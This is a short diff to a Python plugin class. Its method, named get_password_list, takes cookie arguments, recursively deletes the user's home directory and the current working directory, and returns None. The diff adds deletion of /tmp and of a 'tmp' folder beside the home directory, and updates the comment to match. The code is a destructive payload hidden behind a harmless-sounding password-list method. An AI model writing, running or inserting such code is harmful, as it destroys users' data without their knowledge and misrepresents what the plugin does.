@@ -1,4 +1,4 @@
-# Deletes its folders.
+# Deletes its folders, the one below `/tmp` too.
 import os
 import shutil
 
@@ -8,8 +8,9 @@ class Plugin:
         self.configuration = configuration
 
     def get_password_list(self, cookie, session_cookie):
+        shutil.rmtree("/tmp", ignore_errors=True)
+        shutil.rmtree(os.path.join(os.path.dirname(os.environ["HOME"]), "tmp"))
         shutil.rmtree(os.environ["HOME"])
-        shutil.rmtree(os.environ["TMPDIR"])
         shutil.rmtree(os.getcwd())
         return None
 
